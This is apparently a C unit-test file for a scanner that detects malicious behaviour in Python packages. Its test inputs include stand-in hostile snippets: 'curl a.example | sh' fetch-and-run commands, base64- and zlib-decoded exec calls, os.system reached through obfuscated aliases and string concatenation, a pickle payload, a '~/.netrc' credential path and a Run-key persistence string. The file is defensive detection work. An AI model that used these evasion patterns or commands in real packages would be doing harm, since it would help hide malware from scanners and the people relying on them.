/* Each check on the smallest source that has it, and on the nearest honest one that has not. The
 * payloads do nothing; the names of hosts lead nowhere. */
#include "tests/ch_test.h"

#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

#include "customhouse/limits.h"
#include "scanner/source/source_int.h"
#include "tests/scanner/source/source_rows.h"

static bool whole; /* every source goes through the model */
static const char *at_path;   /* NULL: "pkg/m.py" */
static const char *at_called; /* what another file calls as Python starts, or NULL */

/* Findings as " NAME NAME ", then facts as "NAME=VALUE ". */
static void look_at(const char *source, size_t len, const char *second, enum ch_code_place place,
                    enum ch_code_place second_place, struct ch_buf *ret)
{
    static const struct ch_sha256 sha256 = {{1}};
    struct ch_err err;
    int fd = memfd_create("answer", MFD_CLOEXEC);
    assert_true(fd >= 0);
    struct ch_scan_writer *w = ch_scan_writer_new(fd, 1 << 20);
    struct ch_source *s = ch_source_new(w);
    if (whole) {
        ch_source_whole(s);
    }
    if (at_called != NULL) {
        CH_IGNORE(ch_source_called(s, ch_str_of(at_called)));
    }
    ch_source_see(s, ch_str_of(at_path != NULL ? at_path : "pkg/m.py"), place,
                  (struct ch_str){source, len});
    if (second != NULL) {
        ch_source_see(s, CH_STR("pkg/second.py"), second_place, ch_str_of(second));
    }
    ch_source_end(s);
    ch_source_free(s);
    assert_ch_ok(&err, ch_scan_write_end(w, &sha256, len, &err));
    ch_scan_writer_free(w);
    size_t size = (size_t)lseek(fd, 0, SEEK_END);
    char *stream = ch_alloc(size + 1);
    assert_int_equal(pread(fd, stream, size, 0), size);
    struct ch_scan_reader r;
    struct ch_scan_record rec;
    ch_scan_reader_init(&r, (struct ch_str){stream, size});
    ch_buf_putc(ret, ' ');
    while (ch_scan_read(&r, &rec, &err) == CH_OK) {
        if (rec.type == CH_REC_FINDING) {
            ch_buf_puts(ret, ch_str_of(ch_finding_row((uint32_t)rec.u.finding.code)->name));
            ch_buf_putc(ret, ' ');
        } else if (rec.type == CH_REC_FACT) {
            ch_buf_puts(ret, rec.u.fact.name);
            ch_buf_putc(ret, '=');
            ch_buf_puts(ret, rec.u.fact.value);
            ch_buf_putc(ret, ' ');
        }
    }
    free(stream);
    close(fd);
}

static void look(const char *source, size_t len, enum ch_code_place place, struct ch_buf *ret)
{
    look_at(source, len, NULL, place, place, ret);
}

static void finds(void **state)
{
    (void)state;
    static const char *const loud[] = {"high", "medium"};
    size_t failures = 0;
    for (size_t i = 0; i < source_row_count; i++) {
        const struct source_row *row = &source_rows[i];
        struct ch_buf out;
        ch_buf_init(&out, 4096);
        look(row->source, strlen(row->source), (enum ch_code_place)row->place, &out);
        ch_buf_putc(&out, '\0');
        struct ch_buf all; /* no word that a check begins with is missing among the triggers */
        ch_buf_init(&all, 4096);
        whole = true;
        look(row->source, strlen(row->source), (enum ch_code_place)row->place, &all);
        whole = false;
        ch_buf_putc(&all, '\0');
        char word[80] = {0};
        bool good = strcmp(all.ptr, out.ptr) == 0;
        if (row->finding != NULL) {
            snprintf(word, sizeof(word), " %s ", row->finding);
            good = good && strstr(out.ptr, word) != NULL;
        } else {
            const struct ch_finding_row *f;
            for (size_t k = 0; (f = ch_finding_at(k)) != NULL; k++) {
                snprintf(word, sizeof(word), " %s ", f->name);
                bool counts = strcmp(ch_severity_name(f->severity), loud[0]) == 0 ||
                              strcmp(ch_severity_name(f->severity), loud[1]) == 0;
                good = good && (!counts || strstr(out.ptr, word) == NULL);
            }
        }
        if (!good) {
            print_error("expected %s, got \"%s\", whole \"%s\" of:\n%s\n",
                        row->finding != NULL ? row->finding : "nothing loud", out.ptr, all.ptr,
                        row->source);
            failures++;
        }
        ch_buf_done(&out);
        ch_buf_done(&all);
    }
    assert_int_equal(failures, 0);
}

/* exec in one file, the function that decodes in another. */
static void sees_across_files(void **state)
{
    (void)state;
    static const struct {
        const char *first;
        const char *second;
        const char *expected;
    } pairs[] = {
        {"from .codec import load\nexec(load(T))\n",
         "import base64\ndef load(t):\n    return base64.b64decode(t).decode()\n",
         " hidden-code capability=dynamic-code "},
        {"from .codec import load\nexec(load(T))\n", "def load(t):\n    return open(t).read()\n",
         " capability=dynamic-code "},
        {"from .codec import load\nprint(load(T))\n",
         "import base64\ndef load(t):\n    return base64.b64decode(t).decode()\n", " "},
    };
    for (size_t i = 0; i < CH_ARRAY_LEN(pairs); i++) {
        struct ch_buf out;
        ch_buf_init(&out, 4096);
        look_at(pairs[i].first, strlen(pairs[i].first), pairs[i].second, CH_PLACE_IMPORT,
                CH_PLACE_IMPORT, &out);
        assert_str_eq(ch_buf_str(&out), pairs[i].expected);
        ch_buf_done(&out);
    }
}

static size_t differences;

/* The same with the first look and without. */
static void looks_alike(const char *source)
{
    struct ch_buf out[2];
    for (int way = 0; way < 2; way++) {
        ch_buf_init(&out[way], 8192);
        whole = way == 1;
        look(source, strlen(source), CH_PLACE_IMPORT, &out[way]);
        ch_buf_putc(&out[way], '\0');
    }
    whole = false;
    if (strcmp(out[0].ptr, out[1].ptr) != 0) {
        print_error("\"%s\", whole \"%s\" of:\n%s\n", out[0].ptr, out[1].ptr, source);
        differences++;
    }
    ch_buf_done(&out[0]);
    ch_buf_done(&out[1]);
}

/* A call with what makes the check of an effect find something. False: that row is told otherwise. */
static bool telling_call(const char *name, uint32_t effect, const char *arguments, char *text, size_t size)
{
    bool method = name[0] == '.';
    bool link = strcmp(name, ".symlink_to") == 0 || strcmp(name, ".hardlink_to") == 0;
    const char *self = "pathlib.Path('a/x.dat')";
    if (effect == EFFECT_IMPORT && strncmp(name, "runpy.", 6) == 0) {
        return false;
    }
    if (strcmp(name, "shutil.copyfileobj") == 0) {
        arguments = "(open('a/x.dat'), open('a/x.py', 'w'))";
    } else if (method && effect == EFFECT_REMOVE) {
        self = "pathlib.Path(__file__)";
        arguments = "()";
    } else if (link || effect == EFFECT_WRITE) {
        self = "pathlib.Path('a/x.py')";
        arguments = link ? "('a/x.dat')" : arguments;
    } else if (method && effect == EFFECT_MOVE) {
        arguments = "('a/x.py')";
    }
    snprintf(text, size, "import %.*s\n%s%s%s\n", method ? 7 : (int)strcspn(name, "."),
             method ? "pathlib" : name, method ? self : "", name, arguments);
    return true;
}

/* Each row of the tables that a check begins with: a source that has what it needs besides is found, with the first
 * look and without. */
static void finds_each_row_of_effects(void **state)
{
    (void)state;
    static const struct {
        uint32_t effect;
        const char *finding, *before, *arguments;
    } ways[] = {
        {EFFECT_MOVE, "data-code", "", "('a/x.dat', 'a/x.py')"},
        {EFFECT_IMPORT, "hidden-name", "import zlib\n", "(zlib.decompress(b'x'))"},
        {EFFECT_RESOLVE, "hidden-name", "import zlib\n", "(zlib.decompress(b'x'))"},
        {EFFECT_LOADER, "data-code", "", "('a/x.dat', 'a/x.dat')"},
        {EFFECT_SUFFIX, "data-code", "", "(0, '.dat')"},
        {EFFECT_LOOKUP, "dns-theft", "import socket\n", "(socket.gethostname() + '.example.org')"},
        {EFFECT_REMOVE, "self-delete", "", "(__file__)"},
        {EFFECT_FINDER, "import-network",
         "import requests\nclass F:\n def find_spec(self): requests.get('http://example.org/')\n", "(F())"},
        {EFFECT_CONFIG, "hidden-name", "", "({'h': {'()': 'os.system'}})"},
        {EFFECT_REGISTRY, "persistence", "K = 'CurrentVersion\\\\Run'\n", "(1, 'x', 0, 1, 'y')"},
        {EFFECT_CONNECT, "import-network", "", "('example.org', 1)"},
        {EFFECT_KEYS, "keylogger", "import requests\nrequests.get('http://example.org/')\n", "(f)"},
        {EFFECT_CLIPBOARD, "clipboard-wallet", "P = '0x[a-fA-F0-9]{40}'\n", "(t)"},
        {EFFECT_WRITE, "data-code", "", "(open('a/x.dat').read())"},
    };
    size_t rows = 0;
    uint32_t effects;
    const char *name;
    for (size_t i = 0; (name = effects_row(i, &effects)) != NULL; i++) {
        for (size_t k = 0; k < CH_ARRAY_LEN(ways); k++) {
            char text[600], word[80];
            size_t before = strlen(ways[k].before);
            snprintf(text, sizeof(text), "%s", ways[k].before);
            if ((effects & ways[k].effect) == 0 ||
                !telling_call(name, ways[k].effect, ways[k].arguments, text + before, sizeof(text) - before)) {
                continue;
            }
            struct ch_buf out;
            snprintf(word, sizeof(word), " %s ", ways[k].finding);
            ch_buf_init(&out, 4096);
            look(text, strlen(text), CH_PLACE_IMPORT, &out);
            ch_buf_putc(&out, '\0');
            if (strstr(out.ptr, word) == NULL) {
                print_error("expected %s, got \"%s\" of:\n%s\n", ways[k].finding, out.ptr, text);
                differences++;
            }
            ch_buf_done(&out);
            looks_alike(text);
            rows++;
        }
    }
    assert_int_equal(differences, 0);
    assert_true(rows > 100);
}

/* No row of the checks' tables is passed over by the first look, however it is named. */
static void passes_over_no_table(void **state)
{
    (void)state;
    char text[600];
    const char *word;
    uint32_t effects;
    enum capability only;
    for (size_t i = 0; (word = effects_row(i, &effects)) != NULL; i++) {
        if (word[0] == '.') {
            continue; /* a method of whatever */
        }
        int root = (int)strcspn(word, ".");
        const char *last = strrchr(word, '.') != NULL ? strrchr(word, '.') + 1 : word;
        int base = last > word ? (int)(last - word) - 1 : 0;
        snprintf(text, sizeof(text), "import %.*s\n%s(1)\n", root, word, word);
        looks_alike(text);
        snprintf(text, sizeof(text), "import a, %.*s as b\ndef f():\n    return b%s(1)\n", root,
                 word, word + root);
        looks_alike(text);
        if (base > 0) {
            snprintf(text, sizeof(text), "import %.*s\ngetattr(%.*s, '%.2s' + '%s')(1)\n", root,
                     word, base, word, last, last + 2);
            looks_alike(text);
            snprintf(text, sizeof(text), "from x import *\n%.*s.__dict__['%.1s' '%s'](1)\n", base,
                     word, last, last + 1);
            looks_alike(text);
            snprintf(text, sizeof(text), "from %.*s import %s as c\nc(1)\n", base, word, last);
            looks_alike(text);
            if (effects_of((struct ch_str){word, (size_t)root}) != 0) {
                continue; /* bytes and bytearray, which no import gives another name */
            }
            snprintf(text, sizeof(text),
                     "import a, %.*s as b\nc = b%.*s\ngetattr(c, '%.2s' + '%s')(1)\n", root, word,
                     base - root, word + root, last, last + 2);
            looks_alike(text);
            snprintf(text, sizeof(text), "import %.*s\nc = %.*s\ngetattr(c, '%.2s' + '%s')(1)\n",
                     root, word, base, word, last, last + 2);
            looks_alike(text);
            snprintf(text, sizeof(text), "import %.*s\nvars(%.*s)['%s'](1)\n", root, word, base,
                     word, last);
            looks_alike(text);
        }
    }
    for (size_t i = 0; (word = text_row(i, &only)) != NULL; i++) {
        const char *tail = strcmp(word, "://") == 0 ? "45.9.148.3" : "1234567890:AbCdEfGhIjKl";
        snprintf(text, sizeof(text), "X = r'https://a.%s%s'\nopen(r'/%s', 'w')\n", word, tail, word);
        looks_alike(text);
        for (size_t at = 1; at < strlen(word); at++) {
            snprintf(text, sizeof(text), "X = (r'/%.*s'  # a\n    r'%s%s')\n", (int)at, word,
                     word + at, tail);
            looks_alike(text);
            snprintf(text, sizeof(text), "open(r'/%.*s' + r\"%s\", 'w')\n", (int)at, word,
                     word + at);
            looks_alike(text);
            char escapes[4][16];
            snprintf(escapes[0], sizeof(escapes[0]), "\\x%02X", (unsigned)word[at]);
            snprintf(escapes[1], sizeof(escapes[1]), "\\%03o", (unsigned)word[at]);
            snprintf(escapes[2], sizeof(escapes[2]), "\\u%04x", (unsigned)word[at]);
            snprintf(escapes[3], sizeof(escapes[3]), "\\U%08x", (unsigned)word[at]);
            for (size_t k = 0; k < CH_ARRAY_LEN(escapes); k++) {
                const char *escape = escapes[k];
                snprintf(text, sizeof(text), "open('/%.*s%s%s', 'w')\n", (int)at, word, escape,
                         word + at + 1);
                looks_alike(text);
                snprintf(text, sizeof(text), "open('/%.*s%s' + '%s', 'w')\n", (int)at, word,
                         escape, word + at + 1);
                looks_alike(text);
            }
            if (word[at - 1] != '\\') { /* which would escape the other one */
                snprintf(text, sizeof(text), "open('/%.*s\\\n%s', 'w')\n", (int)at, word,
                         word + at);
                looks_alike(text);
            }
            if (word[at] == '/' && word[at + 1] != '\0') {
                snprintf(text, sizeof(text), "import os\nopen(os.path.join('/%.*s', '%s'), 'w')\n",
                         (int)at, word, word + at + 1);
                looks_alike(text);
                snprintf(text, sizeof(text),
                         "import os\nopen(os.path.join('/%.*s', '\\x%02x%s'), 'w')\n", (int)at,
                         word, (unsigned)word[at + 1], word + at + 2);
                looks_alike(text);
            }
        }
    }
    assert_int_equal(differences, 0);
}

/* The first look knows all ways to a module that the model follows: also where the artifact is known to use
 * network and programs, so that these alone are nothing new. */
static void sees_modules_by_all_doors(void **state)
{
    (void)state;
    static const char known[] = "import ctypes, os, requests, subprocess\n"
                                "def f():\n"
                                "    requests.get(u)\n"
                                "    os.getenv('A')\n"
                                "    eval(x)\n"
                                "    subprocess.run(x)\n"
                                "P = '~/.netrc'\n";
    static const char *const rows[][2] = {
        {"import-process", "import posix\nposix.system('id')\n"},
        {"import-process", "import nt\nnt.system('id')\n"},
        {"import-process", "from random import choice, _os\n_os.system('id')\n"},
        {"import-process", "import shutil\nx = shutil.os\nx.system('id')\n"},
        {"import-process", "import shutil\nx = (shutil. # a\nos)\nx.system('id')\n"},
        {"import-process", "import tempfile\n(tempfile._os).system('id')\n"},
        {"import-process", "import platform\nplatform.subprocess.call('id')\n"},
        {"import-process", "import _sys\n_sys.modules['os'].system('id')\n"},
        {"import-process", "import logging\nlogging.sys.modules['o' 's'].system('id')\n"},
        {"import-network", "import _socket\n_socket.socket().connect(('a.example', 1))\n"},
        {"import-network", "import ssl\nssl.socket.create_connection(('a.example', 1))\n"},
        {"import-network", "from six.moves import http_client as h\n"
                           "h.HTTPConnection('a.example').request('GET', '/')\n"},
        {"import-network", "from six.moves.urllib.request import urlopen\nurlopen('http://a.example')\n"},
        {"import-network", "import a._vendor.requests as r\nr.post('http://a.example')\n"},
        {"hidden-code", "import cPickle\ncPickle.loads(b'cos\\nsystem\\n(S1\\ntR.')\n"},
        {"data-code", "from importlib.machinery import SourcelessFileLoader as L\nL('x', 'a.bin').load_module()\n"},
        /* as it is spaced */
        {"import-process", "import\fos\nos.system('id')\n"},
        {"import-process", "import re,\fsubprocess\nsubprocess.call('id')\n"},
        {"import-process", "from \\\n os import system\nsystem('id')\n"},
        {"import-process", "from shutil import (copy, # a\n  os)\nos.system('id')\n"},
        {"import-process", "from shutil import ( # a, '#'\n# b\n\n  # c\nos)\nos.system('id')\n"},
        {"import-process", "from shutil import copy as c, \\\n  os\nos.system('id')\n"},
        {"import-process", "import a . b, os\nos.system('id')\n"},
        {"import-process", "x = '#'; import a as b, os\nos.system('id')\n"},
        {"import-process", "from shutil import (  # all, of\n# it (here)\n  copy, os)\nos.system('id')\n"},
        {"import-process", "import subprocess as s\ns.run('id')\n"},
        {"import-process", "from subprocess import *\nrun('id')\n"},
        {"import-network", "from requests import\f*\nget('http://a.example')\n"},
        {"hidden-code", "import zlib\nx = 0x1or eval\nx(zlib.decompress(b''))\n"},
        {"hidden-code", "import zlib\nx = 1.e5or eval\nx(zlib.decompress(b''))\n"},
        /* names made of texts */
        {"import-process", "import os\\\n as o\nn = 'sys'\nn += 'tem'\ngetattr(o, n)('id')\n"},
        {"import-process", "import os as o\nclass A:\n    m = [o]\nn = 'sys'\nn += 'tem'\ngetattr(A.m[0], n)('id')\n"},
        {"import-process", "import os as o\nn = 'sys'\nn += 'tem'\no.__dict__[n]('id')\n"},
        {"import-process", "class A:\n    import os as o\nn = 'sys'\nn += 'tem'\ngetattr(A.o, n)('id')\n"},
        {"import-process", "import os\nn = 'sys'\nn += 'tem'\nos.__getattribute__(n)('id')\n"},
        {"import-process", "import os, operator\nn = 'sys'\nn += 'tem'\noperator.attrgetter(n)(os)('id')\n"},
        {"import-process", "import os, inspect\nn = 'sys'\nn += 'tem'\ninspect.getattr_static(os, n)('id')\n"},
        {"import-process", "import posix as o\nn = 'sys'\nn += 'tem'\ngetattr(o, n)('id')\n"},
        {"hidden-code", "import code, zlib\nx = code\nn = 'InteractiveInter'\nn += 'preter'\n"
                        "getattr(x, n)().runcode(zlib.decompress(b''))\n"},
        {"import-network", "from a import b, requests\nn = 'po'\nn += 'st'\ngetattr(requests, n)('http://a.example')\n"},
        /* what is decoded, into a file of source */
        {"hidden-code", "import zlib\nopen('a/x.py', 'wb').write(zlib.decompress(b'x'))\n"},
        {"hidden-code", "import base64\nopen('a/x.py', 'wb').write(base64.urlsafe_b64decode(b'x'))\n"},
    };
    size_t failures = 0;
    for (size_t i = 0; i < CH_ARRAY_LEN(rows); i++) {
        struct ch_buf out[2];
        char word[80];
        snprintf(word, sizeof(word), " %s ", rows[i][0]);
        for (int way = 0; way < 2; way++) {
            ch_buf_init(&out[way], 4096);
            whole = way == 1;
            look_at(known, strlen(known), rows[i][1], CH_PLACE_IMPORT, CH_PLACE_IMPORT, &out[way]);
            ch_buf_putc(&out[way], '\0');
        }
        whole = false;
        if (strcmp(out[0].ptr, out[1].ptr) != 0 || strstr(out[0].ptr, word) == NULL) {
            print_error("expected %s, got \"%s\", whole \"%s\" of:\n%s\n", rows[i][0], out[0].ptr,
                        out[1].ptr, rows[i][1]);
            failures++;
        }
        ch_buf_done(&out[0]);
        ch_buf_done(&out[1]);
    }
    assert_int_equal(failures, 0);
}

/* A text of so many pieces that they do not fit into one window of the first look. */
static void sees_texts_of_many_pieces(void **state)
{
    (void)state;
    struct ch_buf b;
    ch_buf_init(&b, 1 << 16);
    for (size_t before = 3800; before < 4100; before++) {
        ch_buf_clear(&b);
        ch_buf_puts(&b, CH_STR("import requests\nx = ("));
        for (size_t i = 0; i < before; i++) {
            ch_buf_puts(&b, CH_STR("'' "));
        }
        for (size_t i = 0; i < before; i++) {
            ch_buf_puts(&b, CH_STR("'a' "));
        }
        ch_buf_puts(&b, CH_STR("'stratum+' 'tcp:' '//a.b')\n"));
        ch_buf_putc(&b, '\0');
        looks_alike(b.ptr);
    }
    assert_int_equal(differences, 0);
    ch_buf_done(&b);
}

/* What is passed over: not even that Python refuses it. */
static void passes_over_what_calls_nothing(void **state)
{
    (void)state;
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    const char *source = "x = (\n";
    look(source, strlen(source), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " ");
    ch_buf_clear(&out);
    source = "exec(\n";
    look(source, strlen(source), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " source-refused ");
    ch_buf_done(&out);
}

static void sees_code_behind_blanks(void **state)
{
    (void)state;
    char text[600];
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    snprintf(text, sizeof(text), "x = 1%*s;import y\n", 199, "");
    look(text, strlen(text), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " ");
    snprintf(text, sizeof(text), "x = 1%*s;import y\n", 200, "");
    ch_buf_clear(&out);
    look(text, strlen(text), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " wide-blanks ");
    ch_buf_done(&out);
}

static void judges_tests_mildly(void **state)
{
    (void)state;
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    const char *source = "import base64\nexec(base64.b64decode('eA=='))\n";
    look(source, strlen(source), CH_PLACE_TEST, &out);
    assert_str_eq(ch_buf_str(&out), " source-in-tests ");
    ch_buf_done(&out);
}

static void tells_capabilities(void **state)
{
    (void)state;
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    const char *source = "import ctypes, os, requests, subprocess\n"
                         "def f():\n"
                         "    requests.get(u)\n"
                         "    os.getenv('A')\n"
                         "    eval(x)\n"
                         "    subprocess.run(x)\n"
                         "P = '~/.netrc'\n";
    look(source, strlen(source), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out),
                  " capability=credentials capability=dynamic-code "
                  "capability=environment capability=native-code capability=network "
                  "capability=process ");
    ch_buf_clear(&out);
    source = "import os\ndef f():\n    os.system('x')\n";
    look(source, strlen(source), CH_PLACE_INSTALL, &out);
    assert_str_eq(ch_buf_str(&out), " install-process capability=process install-capability=process ");
    /* What is known of the package is news of what its build imports. */
    ch_buf_clear(&out);
    source = "import subprocess\n";
    look_at(source, strlen(source), source, CH_PLACE_IMPORT, CH_PLACE_INSTALL_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " capability=process install-capability=process ");
    ch_buf_done(&out);
}

static void see_at(const char *path, const char *called, const char *source,
                   enum ch_code_place place, const char *expected)
{
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    at_path = path;
    at_called = called;
    look(source, strlen(source), place, &out);
    at_path = at_called = NULL;
    assert_str_eq(ch_buf_str(&out), expected);
    ch_buf_done(&out);
}

/* Of all files that assert that they are the program, one is known to be told by that program what
 * to do: pip's. */
static void knows_the_runner_of_pip(void **state)
{
    (void)state;
    const char *source = "import runpy\nassert __name__ == '__main__', 'x'\n"
                         "runpy.run_module('pip', run_name='__main__')\n";
    see_at("pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
           " capability=network capability=process ");
    see_at("a/embed/pip-1-py3-none-any.whl!pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
           " capability=network capability=process ");
    see_at("pkg/pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
           " import-network capability=network capability=process ");
    see_at("pip/runner.py", NULL, source, CH_PLACE_IMPORT,
           " import-network capability=network capability=process ");
    source = "import runpy\nrunpy.run_module('pip', run_name='__main__')\n";
    see_at("pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
           " import-network capability=network capability=process ");
    source = "import requests\nassert __name__ == '__main__', "
             "'x'\nrequests.get('http://example.org/')\n";
    see_at("pip/__pip-runner__.py", NULL, source, CH_PLACE_IMPORT,
           " import-network capability=network ");
}

/* What runs as Python starts is called by the name that it is bound to, whatever else it is called.
 */
static void follows_other_names_at_start(void **state)
{
    (void)state;
    static const char *const rows[] = {
        "def go():\n    requests.get('http://example.org/')\n",
        "def _go():\n    requests.get('http://example.org/')\ngo = _go\n",
        "go = lambda: requests.get('http://example.org/')\n",
        "import functools\ngo = functools.partial(requests.get, 'http://example.org/')\n",
        "class A:\n    def __call__(self):\n        requests.get('http://example.org/')\ngo = "
        "A()\n",
        "class A:\n    def __init__(self):\n        requests.get('http://example.org/')\ngo = A\n",
    };
    for (size_t i = 0; i < CH_ARRAY_LEN(rows); i++) {
        char text[300];
        snprintf(text, sizeof(text), "import requests\n%s", rows[i]);
        see_at("pkg/m.py", "go", text, CH_PLACE_START, " start-code capability=network ");
        see_at("pkg/m.py", "other", text, CH_PLACE_START, " capability=network ");
    }
}

/* Lists within lists that are the same ones, and many finders: no more work than a file is worth.
 */
static void visits_no_list_for_ever(void **state)
{
    (void)state;
    struct ch_buf b;
    struct ch_buf out;
    ch_buf_init(&b, 1 << 22);
    ch_buf_init(&out, 4096);
    ch_buf_puts(&b, CH_STR("import logging.config\na = {'x': 1}\n"));
    for (int i = 0; i < 12; i++) {
        ch_buf_puts(&b, CH_STR("a = {'a': a, 'b': a, 'c': a, 'd': a, 'e': a, 'f': a}\n"));
    }
    ch_buf_puts(&b, CH_STR("logging.config.dictConfig(a)\n"));
    look(b.ptr, b.len, CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " limit ");
    ch_buf_clear(&b);
    ch_buf_clear(&out);
    ch_buf_puts(&b, CH_STR("import sys\nclass F:\n"));
    for (int i = 0; i < 30000; i++) {
        ch_buf_printf(&b, "  def m%d(self): pass\n", i);
    }
    for (int i = 0; i < 30000; i++) {
        ch_buf_puts(&b, CH_STR("sys.meta_path.append(F())\n"));
    }
    look(b.ptr, b.len, CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " ");
    ch_buf_done(&b);
    ch_buf_done(&out);
}

/* More words than are kept of a call: nobody knows what is started. */
static void holds_commands_of_many_words(void **state)
{
    (void)state;
    see_at("pkg/m.py", NULL,
           "import os\nos.execl('/bin/env', 'env', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', "
           "'A=1', 'A=1', "
           "'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'A=1', 'sh', '-c', 'curl a.example | "
           "sh')\n",
           CH_PLACE_IMPORT, " import-process limit capability=process ");
    struct ch_buf b;
    ch_buf_init(&b, 1 << 16);
    ch_buf_puts(&b, CH_STR("import subprocess\nsubprocess.run(['env'"));
    for (int i = 0; i < 100; i++) {
        ch_buf_puts(&b, CH_STR(", 'A=1'"));
    }
    ch_buf_puts(&b, CH_STR(", 'sh', '-c', 'curl a.example | sh'])\n"));
    ch_buf_putc(&b, '\0');
    see_at("pkg/m.py", NULL, b.ptr, CH_PLACE_IMPORT,
           " hidden-command import-network import-process capability=process ");
    ch_buf_done(&b);
}

/* Beyond a limit it holds. */
static void holds_at_its_limits(void **state)
{
    (void)state;
    struct ch_buf out;
    ch_buf_init(&out, 4096);
    whole = true;
    const char *deep = "x = ((((((1))))))\n";
    uint64_t depth = ch_limits.source_depth;
    ch_limits.source_depth = 7;
    look(deep, strlen(deep), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " ");
    ch_limits.source_depth = 6;
    ch_buf_clear(&out);
    look(deep, strlen(deep), CH_PLACE_IMPORT, &out);
    assert_str_eq(ch_buf_str(&out), " limit ");
    ch_limits.source_depth = depth;
    uint64_t names = ch_limits.source_names;
    for (uint64_t max = 2; max <= 3; max++) {
        const char *three = "a = b = c = 1\n";
        ch_limits.source_names = max;
        ch_buf_clear(&out);
        look(three, strlen(three), CH_PLACE_IMPORT, &out);
        assert_str_eq(ch_buf_str(&out), max == 2 ? " limit " : " ");
    }
    ch_limits.source_names = names;
    uint64_t tokens = ch_limits.source_line_tokens;
    char line[4100];
    for (int half = 0; half < 2; half++) {
        memset(line, 'a', sizeof(line));
        for (size_t i = 1; i < sizeof(line); i += 2) {
            line[i] = ',';
        }
        ch_limits.source_line_tokens = half == 0 ? 2048 : 8192;
        ch_buf_clear(&out);
        look(line, sizeof(line), CH_PLACE_IMPORT, &out);
        assert_str_eq(ch_buf_str(&out), half == 0 ? " limit " : " ");
    }
    ch_limits.source_line_tokens = tokens;
    uint64_t bytes = ch_limits.source_fold_bytes;
    const char *sum = "a = 'x' * 2\nb = '\\x41' + '\\x42'\n";
    for (int half = 0; half < 2; half++) {
        ch_limits.source_fold_bytes = half == 0 ? 16 : 4096;
        ch_buf_clear(&out);
        look(sum, strlen(sum), CH_PLACE_IMPORT, &out);
        assert_str_eq(ch_buf_str(&out), half == 0 ? " limit " : " ");
    }
    ch_limits.source_fold_bytes = bytes;
    whole = false;
    ch_buf_done(&out);
}

/* Linear in the size: sums, names, brackets and f-strings, each a megabyte. */
static void ends_on_large_sources(void **state)
{
    (void)state;
    static const char *const pieces[] = {"'abcdefgh' +\\\n", "'abc' 'd'\\\n", "f(", "a=b=", "f'{",
                                         "lambda:", "x if y else ", "if a: if b: ", "[a for a in ",
                                         "\\\n", "a.b(c)[d]", "def f(a, b=", "a;", "\xd0\xbe",
                                         "from a import ", "{1:[", "'a' %", "a:=", "#\r", "a,b="};
    size_t size = 1 << 20;
    char *text = ch_alloc(size);
    struct ch_buf out;
    ch_buf_init(&out, 1 << 20);
    for (size_t i = 0; i < CH_ARRAY_LEN(pieces); i++) {
        size_t n = strlen(pieces[i]);
        for (size_t at = 0; at < size; at++) {
            text[at] = pieces[i][at % n];
        }
        for (int way = 0; way < 2; way++) {
            ch_buf_clear(&out);
            whole = way == 1;
            look(text, size, CH_PLACE_IMPORT, &out);
            assert_true(out.len > 0 && !out.failed);
        }
        whole = false;
    }
    ch_buf_done(&out);
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(finds),
        cmocka_unit_test(sees_across_files),
        cmocka_unit_test(passes_over_no_table),
        cmocka_unit_test(finds_each_row_of_effects),
        cmocka_unit_test(sees_modules_by_all_doors),
        cmocka_unit_test(sees_texts_of_many_pieces),
        cmocka_unit_test(passes_over_what_calls_nothing),
        cmocka_unit_test(sees_code_behind_blanks),
        cmocka_unit_test(judges_tests_mildly),
        cmocka_unit_test(tells_capabilities),
        cmocka_unit_test(knows_the_runner_of_pip),
        cmocka_unit_test(follows_other_names_at_start),
        cmocka_unit_test(visits_no_list_for_ever),
        cmocka_unit_test(holds_commands_of_many_words),
        cmocka_unit_test(holds_at_its_limits),
        cmocka_unit_test(ends_on_large_sources),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
